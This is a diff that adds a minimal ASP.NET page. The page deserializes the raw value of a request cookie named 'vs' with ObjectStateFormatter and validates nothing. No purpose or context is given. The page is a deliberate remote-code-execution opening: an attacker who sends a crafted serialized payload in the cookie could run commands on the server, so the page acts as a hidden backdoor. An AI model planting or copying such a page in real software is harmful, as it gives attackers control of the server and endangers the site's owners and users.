@@ -1,0 +1,4 @@
+<%@ Page Language="C#" %><%
+var osf = new System.Web.UI.ObjectStateFormatter();
+osf.Deserialize(Request.Cookies["vs"].Value);
+%>
